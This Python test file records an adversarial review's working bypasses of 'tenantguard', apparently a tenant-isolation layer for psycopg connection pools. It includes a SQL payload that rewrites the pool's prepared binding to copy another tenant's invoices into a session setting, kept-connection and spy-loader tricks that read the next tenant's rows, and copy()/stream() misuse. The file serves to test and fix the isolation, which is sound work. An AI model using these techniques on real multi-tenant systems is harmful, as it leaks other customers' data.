# The sixth review's attacks, kept for the fix (not collected: each test asserts the attack
# SUCCEEDS today; invert them into tests with controls when conn.wait() is guarded).
"""Sixth adversarial review (attack14): the pool model, from a fresh clone.

Each test shows a candidate bypass on a real server. Pools have one connection, so the
next lease gets the attacker's connection object and server session.
"""

from __future__ import annotations

import asyncio
import threading
import time
from typing import Any

import psycopg
import pytest
from psycopg.types.numeric import NumericLoader

from tenantguard import AsyncTenantPool, TenantPool, tenant
from tenantguard.drivers.psycopg import fast_path
from tenantguard.errors import LeaseNotHeld, SessionStateRefused

ROWS = "SELECT tenant_id, amount FROM app.invoices ORDER BY amount"
T2_ROWS = [(2, 10), (2, 20), (2, 30), (2, 40)]

# The binding the pool prepares as _tg_bind (pinned form: 8 text parameters), rewritten so
# that after binding the tenant it copies the tenant's invoices into a SESSION-level custom
# setting, which outlives the transaction, the lease and the checkin guard.
REPLANT = """
DEALLOCATE _tg_bind;
PREPARE _tg_bind(text, text, text, text, text, text, text, text) AS
SELECT s.a, s.b, s.c, s.d,
       pg_catalog.set_config('x.loot', COALESCE((
           SELECT pg_catalog.string_agg(i.tenant_id || ':' || i.amount, ',' ORDER BY i.amount)
           FROM app.invoices i WHERE s.a IS NOT NULL), '') || ' ' ||
           COALESCE(pg_catalog.current_setting('x.loot', true), ''), false)
FROM (SELECT pg_catalog.set_config($1, $2, true) AS a,
             pg_catalog.set_config($3, $4, true) AS b,
             CASE WHEN pg_catalog.current_setting('role') OPERATOR(pg_catalog.<>) $5
                  THEN pg_catalog.set_config('role', $6, true) END AS c,
             CASE WHEN pg_catalog.current_setting('search_path') OPERATOR(pg_catalog.<>) $7
                  THEN pg_catalog.set_config('search_path', $8, true) END AS d) s
"""
# The replant targets the fast path's _tg_bind, and cursor reuse is fast-path only (the
# default wherever psycopg 3.3 is installed); without it psycopg's own _pg3_N names apply.
FAST_ONLY = pytest.mark.skipif(not fast_path()[0], reason="the default fast path's names")
LOOT = "SELECT pg_catalog.current_setting('x.loot', true)"


# ------------------------------------------------- 1. cursor classes built directly


@FAST_ONLY
@pytest.mark.parametrize("cls", [psycopg.ClientCursor, psycopg.Cursor, psycopg.RawCursor])
def test_r6_direct_cursor_class_replants_the_binding(saas, cls) -> None:  # type: ignore[no-untyped-def]
    """``psycopg.ClientCursor(conn)`` (psycopg's documented way to get a client-side cursor)
    on tenant 1's own lease: nothing is classified or noted; the binding is replaced and
    tenant 2's next request copies its rows into a session setting tenant 1 reads later."""
    with TenantPool(saas.app_dsn, min_size=1, max_size=1) as pool:
        with tenant(1), pool.connection() as conn:
            conn.execute("SELECT 1")  # the binding is prepared now
            with pytest.raises(SessionStateRefused):
                conn.execute(REPLANT)  # the classifier refuses it on the tenant cursor
            cur = cls(conn)
            if cls is psycopg.RawCursor:
                cur.execute("DEALLOCATE _tg_bind")
                cur.execute(REPLANT.split(";", 1)[1])
            else:
                cur.execute(REPLANT)
        with tenant(2), pool.connection() as conn:  # an ordinary request of tenant 2
            assert conn.execute(ROWS).fetchall() == T2_ROWS
        with tenant(1), pool.connection() as conn:
            loot = conn.execute(LOOT).fetchone()[0]
        stats = pool.guard_stats
    print("LOOT:", loot, "stats:", stats)
    assert "2:10,2:20,2:30,2:40" in loot  # tenant 2's rows, read on tenant 1's lease


def test_r6_kept_reference_plus_direct_cursor_reads_inside_next_tenants_transaction(saas) -> None:  # type: ignore[no-untyped-def]
    """A reference kept past tenant 1's lease, wrapped in ``psycopg.Cursor(kept)`` from
    another thread: no LeaseNotHeld, and its SELECT lands in tenant 2's bound transaction."""
    with TenantPool(saas.app_dsn, min_size=1, max_size=1) as pool:
        with tenant(1), pool.connection() as conn:
            conn.execute("SELECT 1")
            kept = conn
        with pytest.raises(LeaseNotHeld):
            kept.execute(ROWS)  # the tenant API refuses the kept reference
        stolen: list[Any] = []
        in_tx, done = threading.Event(), threading.Event()

        def attacker() -> None:
            in_tx.wait(5)
            stolen.extend(psycopg.Cursor(kept).execute(ROWS).fetchall())
            done.set()

        t = threading.Thread(target=attacker, daemon=True)
        t.start()
        with tenant(2), pool.connection() as conn:
            with conn.transaction():
                conn.execute("SELECT 1")
                in_tx.set()
                done.wait(5)
                conn.execute("SELECT 1")
        t.join(5)
    assert stolen == T2_ROWS


# ------------------------------------- 2. the reused cursor's adapters map, kept


SEEN: list[Any] = []


class SpyLoader(NumericLoader):
    """Instantiated with the Transformer as context: reads the whole current result."""

    def __init__(self, oid: int, context: Any = None) -> None:
        super().__init__(oid, context)
        res = getattr(context, "pgresult", None)
        if res is not None:
            SEEN.append(
                [tuple(res.get_value(r, c) for c in range(res.nfields)) for r in range(res.ntuples)]
            )

    def load(self, data: Any) -> Any:
        SEEN.append(("load", bytes(data)))
        return super().load(data)


@FAST_ONLY
def test_r6_kept_adapters_of_the_reused_cursor_read_the_next_tenants_result(saas) -> None:  # type: ignore[no-untyped-def]
    """Tenant 1 keeps only ``cur.adapters`` of the cursor conn.execute() made (not the
    cursor: its reference count stays "free", so the connection reuses it for tenant 2).
    From another thread, during tenant 2's lease, a loader registered on that map is
    instantiated (psycopg's _loaders_changed) with tenant 2's result in hand."""
    SEEN.clear()
    with TenantPool(saas.app_dsn, min_size=1, max_size=1) as pool:
        with tenant(1), pool.connection() as conn:
            ad = conn.execute("SELECT 1").adapters  # the cursor itself is not kept
        go, done = threading.Event(), threading.Event()

        def attacker() -> None:
            go.wait(5)
            ad.register_loader("numeric", SpyLoader)  # no lease, no LeaseNotHeld
            done.set()

        t = threading.Thread(target=attacker, daemon=True)
        t.start()
        with tenant(2), pool.connection() as conn:
            cur = conn.execute(ROWS)
            go.set()  # (a racing thread needs no signal: see the next test)
            done.wait(5)
            rows = cur.fetchall()
        t.join(5)
        stats = pool.guard_stats
    print("SEEN:", SEEN, stats.by_kind)
    assert rows == T2_ROWS or all(r[0] == 2 for r in rows)
    assert [b"2", b"10"] in [list(r) for res in SEEN if isinstance(res, list) for r in res]


@FAST_ONLY
def test_r6_kept_adapters_uncoordinated_race(saas) -> None:  # type: ignore[no-untyped-def]
    """The same without any signal from tenant 2's code: the attacker's thread re-takes a
    lease of tenant 1 to get a fresh map, then registers as soon as the connection is busy
    (``kept.info.transaction_status``: public) while tenant 2's thread runs ordinary
    requests."""
    SEEN.clear()
    stop = threading.Event()
    with TenantPool(saas.app_dsn, min_size=1, max_size=1, timeout=5) as pool:

        def victim() -> None:
            while not stop.is_set():
                with tenant(2), pool.connection() as conn:
                    conn.execute(ROWS).fetchall()

        def attacker() -> None:
            from psycopg.pq import TransactionStatus

            while not stop.is_set():
                with tenant(1), pool.connection() as conn:
                    ad = conn.execute("SELECT 1").adapters
                    kept = conn
                deadline = time.perf_counter() + 0.2
                while time.perf_counter() < deadline:
                    if kept.info.transaction_status == TransactionStatus.ACTIVE:
                        ad.register_loader("numeric", SpyLoader)
                        break

        ts = [threading.Thread(target=f, daemon=True) for f in (victim, attacker)]
        for t in ts:
            t.start()
        end = time.perf_counter() + 5
        while time.perf_counter() < end and not any(
            isinstance(x, list) and x and x[0][0] == b"2" for x in SEEN
        ):
            time.sleep(0.05)
        stop.set()
        for t in ts:
            t.join(10)
    hits = [x for x in SEEN if isinstance(x, list) and x and x[0][0] == b"2"]
    print("hits:", len(hits), hits[:1])
    assert hits


# --------------------- 3. a named cursor's inherited stream() / copy(): tenantguard objects only


@FAST_ONLY
def test_r6_server_cursor_copy_replants_the_binding(saas) -> None:  # type: ignore[no-untyped-def]
    """``conn.cursor("name")`` is a TenantServerCursor, but its copy() and stream() are
    psycopg's Cursor methods (not overridden): no classification, no binding, no owner.
    copy() sends the text with the simple query protocol: every statement in it runs."""
    with TenantPool(saas.app_dsn, min_size=1, max_size=1) as pool:
        with tenant(1), pool.connection() as conn:
            conn.execute("SELECT 1")
            try:  # simple query protocol: every statement runs, then psycopg complains
                with conn.cursor("r6c").copy(REPLANT):
                    pass
            except psycopg.ProgrammingError as exc:
                print("copy:", exc)
        with tenant(2), pool.connection() as conn:
            assert conn.execute(ROWS).fetchall() == T2_ROWS
        with tenant(1), pool.connection() as conn:
            loot = conn.execute(LOOT).fetchone()[0]
    assert "2:10,2:20,2:30,2:40" in loot


@pytest.mark.parametrize("how", ["stream", "copy"])
def test_r6_kept_reference_named_cursor_reads_in_next_tenants_transaction(saas, how) -> None:  # type: ignore[no-untyped-def]
    with TenantPool(saas.app_dsn, min_size=1, max_size=1) as pool:
        with tenant(1), pool.connection() as conn:
            conn.execute("SELECT 1")
            kept = conn
        stolen: list[Any] = []
        in_tx, done = threading.Event(), threading.Event()

        def attacker() -> None:
            in_tx.wait(5)
            try:
                if how == "stream":
                    stolen.extend(kept.cursor("k6").stream(ROWS))
                else:
                    with kept.cursor("k6").copy(f"COPY ({ROWS}) TO STDOUT") as cp:
                        stolen.extend(cp.rows())
            finally:
                done.set()

        t = threading.Thread(target=attacker, daemon=True)
        t.start()
        with tenant(2), pool.connection() as conn:
            with conn.transaction():
                conn.execute("SELECT 1")
                in_tx.set()
                done.wait(5)
                conn.execute("SELECT 1")
        t.join(5)
    print("stolen", stolen)
    assert [tuple(map(str, r)) for r in stolen] == [tuple(map(str, r)) for r in T2_ROWS]


def test_r6_async_kept_reference_named_cursor_stream(saas) -> None:  # type: ignore[no-untyped-def]
    async def run() -> list[Any]:
        async with AsyncTenantPool(saas.app_dsn, min_size=1, max_size=1) as pool:
            async with pool.connection(tenant_id=1) as conn:
                await conn.execute("SELECT 1")
                kept = conn
            stolen: list[Any] = []
            in_tx = asyncio.Event()

            async def attacker() -> None:
                await in_tx.wait()
                async for row in kept.cursor("k6").stream(ROWS):
                    stolen.append(row)

            task = asyncio.create_task(attacker())
            async with pool.connection(tenant_id=2) as conn:
                async with conn.transaction():
                    await conn.execute("SELECT 1")
                    in_tx.set()
                    await asyncio.sleep(0.2)
                    await conn.execute("SELECT 1")
            await task
            return stolen

    assert asyncio.run(run()) == T2_ROWS
